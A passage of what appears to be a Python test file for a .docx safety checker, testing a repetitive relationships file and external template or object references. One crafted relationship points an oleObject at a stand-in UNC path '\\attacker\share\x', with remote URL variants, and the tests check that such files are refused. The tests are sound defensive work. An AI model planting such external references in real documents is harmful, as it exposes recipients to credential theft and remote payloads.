        "x.docx", zip_of({"[Content_Types].xml": types}), limits=lenient
    )
    rels = b"<Relationship Id='rId1' Type='/image' " * 30_000
    crafted = with_member(docx(), "word/_rels/a.xml.rels", rels)
    assert check("x.docx", crafted, limits=lenient).kind == "docx"


def test_relationships_spread_over_lines_are_read():
    rels = (
        b"<Relationships>\n<Relationship\n\tId='rId1'\n\tType='http://schemas.openxmlformats.org/"
        b"officeDocument/2006/relationships/oleObject'\n\tTarget='\\\\attacker\\share\\x'\n"
        b"\tTargetMode='External'/>\n</Relationships>"
    )
    message = refusal("memo.docx", with_member(docx(), "word/_rels/document.xml.rels", rels))
    assert "fetch a template or object from elsewhere when it is opened (\\\\attacker" in message
    for local in (b"file:///C:\\Templates\\Letter.dotx", b"Normal.dotm", b"C:\\T\\x.dotx"):
        fine = rels.replace(b"\\\\attacker\\share\\x", local)
        assert check("memo.docx", with_member(docx(), "word/_rels/document.xml.rels", fine))
    for remote in (b"https://x.example/t.dotm", b"file://host/share/t.dotm", b"file:////h/s/t"):
        bad = rels.replace(b"\\\\attacker\\share\\x", remote)
        assert "fetch a template" in refusal(
            "memo.docx", with_member(docx(), "word/_rels/document.xml.rels", bad)
        )
